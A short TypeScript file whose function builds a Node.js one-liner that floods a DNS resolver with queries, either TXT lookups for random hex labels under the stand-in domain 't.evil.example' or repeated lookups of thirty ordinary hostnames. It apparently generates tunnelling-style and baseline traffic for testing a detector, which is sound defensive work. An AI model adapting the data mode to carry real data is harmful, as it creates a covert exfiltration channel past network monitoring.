// A script for `node -e` that queries a resolver: for random names that carry data, or repeatedly for thirty ordinary ones.

export function dnsQueries(server: string, count: number, shape: 'data' | 'names'): string {
  const name =
    shape === 'data'
      ? "randomBytes(28).toString('hex')+'.t.evil.example'"
      : "'host'+(n%30)+'.example.org'";
  return `const s=require('dgram').createSocket('udp4');const {randomBytes}=require('crypto');let n=0;
    const ask=()=>{const q=[Buffer.from([n>>8,n&255,1,0,0,1,0,0,0,0,0,0])];
      for(const l of (${name}).split('.')){q.push(Buffer.from([l.length]),Buffer.from(l))}
      q.push(Buffer.from([0,0,${shape === 'data' ? 16 : 1},0,1]));s.send(Buffer.concat(q),53,'${server}');
      if(++n<${count})setTimeout(ask,${shape === 'data' ? 8 : 2});else setTimeout(()=>s.close(),200)};ask()`;
}
